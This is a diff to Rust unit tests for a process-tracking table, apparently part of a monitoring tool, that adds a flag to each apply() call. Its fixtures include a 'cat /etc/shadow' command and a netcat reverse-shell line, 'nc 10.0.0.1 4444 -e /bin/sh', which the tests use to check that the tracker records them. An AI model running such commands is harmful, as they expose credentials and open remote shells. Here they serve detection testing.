@@ -116,15 +116,15 @@ fn exec_reads_proc_right_away() {
     bash_50(&fp);
     let mut t = fp.table(16);
     fp.add(&P { argv: &["cat", "/etc/shadow"], exe: "/usr/bin/cat", cwd: "/etc", ..P::new(52, 50, "cat", 8) });
-    apply(&mut t, &fork(1, 50, 52, "bash"));
-    apply(&mut t, &exec(2, 52, "/usr/bin/cat", "cat"));
+    apply(&mut t, &fork(1, 50, 52, "bash"), false);
+    apply(&mut t, &exec(2, 52, "/usr/bin/cat", "cat"), false);
     let c = t.get(52).expect("cat").clone();
     assert_eq!((c.cmdline.as_str(), c.cwd.as_str(), c.origin), ("cat /etc/shadow", "/etc", Origin::Proc));
     // busybox's applets: /proc's executable is the binary a symlink leads to, the exec's
     // path is the one it named (relative ones made absolute against the cwd).
     fp.add(&P { argv: &["ls", "-l"], exe: "/bin/busybox", cwd: "/srv", ..P::new(53, 50, "ls", 9) });
-    apply(&mut t, &fork(3, 50, 53, "bash"));
-    apply(&mut t, &exec(4, 53, "../bin/ls", "ls"));
+    apply(&mut t, &fork(3, 50, 53, "bash"), false);
+    apply(&mut t, &exec(4, 53, "../bin/ls", "ls"), false);
     let c = t.get(53).expect("ls").clone();
     assert_eq!((c.exepath.as_str(), c.exec_path.as_str()), ("/bin/busybox", "/bin/ls"));
 }
@@ -137,15 +137,15 @@ fn an_exec_applied_after_the_next_one_takes_the_record_not_proc() {
     // `nc 10.0.0.1 4444 -e /bin/sh`: by the time nc's exec record is applied, nc has exec'd
     // the shell, and /proc shows that.
     fp.add(&P { argv: &["sh"], exe: "/bin/sh", cwd: "/srv", ..P::new(53, 50, "sh", 8) });
-    apply(&mut t, &fork(1, 50, 53, "bash"));
-    apply(&mut t, &exec_args(2, 53, "/bin/nc", "nc", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]));
+    apply(&mut t, &fork(1, 50, 53, "bash"), false);
+    apply(&mut t, &exec_args(2, 53, "/bin/nc", "nc", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]), false);
     let c = t.get(53).expect("nc").clone();
     assert_eq!(
         (c.comm.as_str(), c.exepath.as_str(), c.exec_path.as_str(), c.cmdline.as_str(), c.origin),
         ("nc", "/bin/nc", "/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", Origin::Exec)
     );
     // Then the shell's own record: /proc agrees with it, and is taken.
-    apply(&mut t, &exec_args(3, 53, "/bin/sh", "sh", &["sh"]));
+    apply(&mut t, &exec_args(3, 53, "/bin/sh", "sh", &["sh"]), false);
     let c = t.get(53).expect("sh").clone();
     assert_eq!((c.comm.as_str(), c.cwd.as_str(), c.origin), ("sh", "/srv", Origin::Proc));
 }
@@ -157,13 +157,13 @@ fn a_process_that_renamed_itself_or_rewrote_its_arguments_is_still_read_from_pro
     let mut t = fp.table(16);
     // runc's init renames itself after its exec; its arguments stay.
     fp.add(&P { argv: &["runc", "init"], exe: "/usr/sbin/runc", ..P::new(54, 50, "runc:[2:INIT]", 8) });
-    apply(&mut t, &fork(1, 50, 54, "bash"));
-    apply(&mut t, &exec_args(2, 54, "/proc/self/exe", "runc", &["runc", "init"]));
+    apply(&mut t, &fork(1, 50, 54, "bash"), false);
+    apply(&mut t, &exec_args(2, 54, "/proc/self/exe", "runc", &["runc", "init"]), false);
     assert_eq!(t.get(54).map(|p| (p.exepath.as_str(), p.origin)), Some(("/usr/sbin/runc", Origin::Proc)));
     // nginx rewrites its arguments; its name stays.
     fp.add(&P { argv: &["nginx: master process"], exe: "/usr/sbin/nginx", ..P::new(55, 50, "nginx", 8) });
-    apply(&mut t, &fork(3, 50, 55, "bash"));
-    apply(&mut t, &exec_args(4, 55, "/usr/sbin/nginx", "nginx", &["nginx", "-g", "daemon off;"]));
+    apply(&mut t, &fork(3, 50, 55, "bash"), false);
+    apply(&mut t, &exec_args(4, 55, "/usr/sbin/nginx", "nginx", &["nginx", "-g", "daemon off;"]), false);
     assert_eq!(t.get(55).map(|p| p.origin), Some(Origin::Proc));
 }
 
@@ -173,8 +173,8 @@ fn a_comm_seen_at_a_syscall_renames_the_entry_and_checks_proc_once() {
     bash_50(&fp);
     let mut t = fp.table(16);
     // runc's init: exec'd as "exe", renamed itself; by now /proc shows its next image.
-    apply(&mut t, &fork(1, 50, 61, "bash"));
-    apply(&mut t, &exec(2, 61, "/proc/self/exe", "exe"));
+    apply(&mut t, &fork(1, 50, 61, "bash"), false);
+    apply(&mut t, &exec(2, 61, "/proc/self/exe", "exe"), false);
     fp.add(&P { argv: &["sh"], exe: "/bin/sh", ..P::new(61, 50, "sh", 9) });
     t.observe_comm(61, "runc:[2:INIT]", true);
     let p = t.get(61).expect("61").clone();
@@ -196,19 +196,19 @@ fn a_reused_pid_after_an_exit_record_is_a_new_process() {
     fp.add(&P { argv: &["python3"], exe: "/usr/bin/python3", cwd: "/srv", ..P::new(60, 1, "python3", 3) });
     let mut t = fp.table(16);
     // Both incarnations of 77 are gone from /proc: neither start time is known.
-    apply(&mut t, &fork(1, 50, 77, "bash"));
-    apply(&mut t, &exec(2, 77, "/bin/old", "old"));
-    apply(&mut t, &exit(3, 77));
-    apply(&mut t, &fork(4, 60, 77, "python3"));
+    apply(&mut t, &fork(1, 50, 77, "bash"), false);
+    apply(&mut t, &exec(2, 77, "/bin/old", "old"), false);
+    apply(&mut t, &exit(3, 77), false);
+    apply(&mut t, &fork(4, 60, 77, "python3"), false);
     let p = t.get(77).expect("new 77").clone();
     assert_eq!((p.ppid, p.comm.as_str(), p.cwd.as_str(), p.exited), (60, "python3", "/srv", false));
     // With start times from /proc, the old incarnation stays reachable for its grace.
     fp.add(&P::new(78, 50, "bash", 20));
-    apply(&mut t, &fork(5, 50, 78, "bash"));
-    apply(&mut t, &exit(6, 78));
+    apply(&mut t, &fork(5, 50, 78, "bash"), false);
+    apply(&mut t, &exit(6, 78), false);
     fp.remove(78);
     fp.add(&P::new(78, 60, "python3", 30));
-    apply(&mut t, &fork(7, 60, 78, "python3"));
+    apply(&mut t, &fork(7, 60, 78, "python3"), false);
     assert_eq!(t.get(78).map(|p| (p.start_time, p.ppid, p.exited)), Some((Some(30), 60, false)));
     assert_eq!(t.get_exact(78, 20).map(|p| (p.ppid, p.exited)), Some((50, true)));
 }
@@ -224,7 +224,7 @@ fn clone_parent_makes_a_sibling_and_records_are_applied_in_time_order() {
     assert_eq!(t.get(90).map(|p| (p.ppid, p.comm.as_str())), Some((50, "id")));
     // runc's nsexec: clone(CLONE_PARENT) from 90 gives a child of 50 with 90's data.
     let sibling = LifecycleEvent { clone_flags: 0x8000, ..fork(3, 90, 91, "id") };
-    apply(&mut t, &sibling);
+    apply(&mut t, &sibling, false);
     assert_eq!(t.get(91).map(|p| (p.ppid, p.comm.as_str())), Some((50, "id")));
     // An exec record not in this batch was applied with an earlier one: nothing happens.
     let mut q = queue(&[exit(9, 91)]);
